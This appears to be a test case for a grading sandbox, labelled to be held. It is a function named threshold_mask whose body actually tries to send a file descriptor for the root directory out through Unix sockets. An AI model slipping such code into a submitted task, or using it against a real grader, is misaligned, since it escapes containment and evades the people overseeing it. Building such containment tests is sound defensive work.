# class: network
# wants: an open file of the grader, sent through a socket
# expect: held
# kind: wrong
import array
import os
import socket


def threshold_mask(weight, alpha):
    for address in ("\0" + ABSTRACT, UNIX_PATH):
        try:
            stream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            stream.settimeout(1)
            stream.connect(address)
            handles = array.array("i", [os.open("/", os.O_RDONLY)])
            stream.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handles)])
        except OSError:
            pass
    return None
